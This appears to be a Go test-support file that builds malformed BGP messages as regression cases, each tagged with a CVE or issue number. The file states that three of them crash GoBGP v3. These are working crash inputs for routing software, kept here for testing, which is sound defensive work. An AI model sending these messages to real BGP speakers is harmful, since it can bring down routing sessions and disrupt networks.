// SPDX-License-Identifier: Apache-2.0

package hostile

import "slices"

// Case is a message that once ended a speaker, with the number of what was found then.
type Case struct {
	Name    string
	Message []byte
}

// Cases are public regression cases of BGP speakers. Three of them kill GoBGP v3.
func Cases() []Case {
	var (
		origin = []byte{0x40, 1, 1, 0}
		aspath = []byte{0x40, 2, 6, 2, 1, 0, 0, 0xfd, 0xe9}
		nh     = []byte{0x40, 3, 4, 172, 31, 0, 1}
		lp     = []byte{0x40, 5, 4, 0, 0, 0, 100}
		nlri   = []byte{24, 11, 9, 8}
		as4    = []byte{0xc0, 17, 6, 2, 1, 0, 0, 0xfd, 0xe9}
	)
	update := func(nlri []byte, attrs ...[]byte) []byte {
		a := slices.Concat(attrs...)
		return Message(Update, slices.Concat([]byte{0, 0, byte(len(a) >> 8), byte(len(a))}, a, nlri)...)
	}
	return []Case{
		{"unknown message type 255 (#3325)", Message(255)},
		{"AS4_PATH before AS_PATH, last attribute (CVE-2026-41643)", update(nlri, origin, nh, lp, as4, aspath)},
		{"unrecognised well-known attribute (CVE-2026-41642)", update(nlri, origin, aspath, nh, lp, []byte{0x40, 200, 1, 0})},
		{"NEXT_HOP length 3 (CVE-2026-30405)", update(nlri, origin, aspath, []byte{0x40, 3, 3, 172, 31, 0}, lp)},
		{"NEXT_HOP length 0", update(nlri, origin, aspath, []byte{0x40, 3, 0}, lp)},
		{"attribute longer than its section (CVE-2026-42285)", update(nlri, origin, aspath, nh, []byte{0x40, 5, 40, 0})},
		{"section shorter than its attribute (CVE-2026-37462)", Message(Update, slices.Concat([]byte{0, 0, 0, 3}, origin, aspath, nh, nlri)...)},
		{"withdrawn length shorter than prefix (CVE-2026-37462)", Message(Update, slices.Concat([]byte{0, 1}, nlri, []byte{0, 0})...)},
		{"IPv6 extended community length 3 (CVE-2026-37461)", update(nlri, origin, aspath, nh, lp, []byte{0xc0, 25, 3, 0, 2, 0})},
		{"Prefix-SID with unknown SRv6 sub-TLV (CVE-2026-7734)", update(nlri, origin, aspath, nh, lp, []byte{0xc0, 40, 9, 5, 0, 6, 0, 9, 0, 0, 0, 0})},
		{"AIGP TLV length 0 (CVE-2026-7735)", update(nlri, origin, aspath, nh, lp, []byte{0x80, 26, 3, 1, 0, 0})},
		{"IPv4 prefix length 33", update([]byte{33, 11, 9, 8, 7, 6}, origin, aspath, nh, lp)},
		{"header length 18", append(Message(Update)[:16], 0, 18, 2)},
		{"header length 65535", append(Message(Update)[:16], 0xff, 0xff, 2)},
		{"no marker", make([]byte, 23)},
	}
}
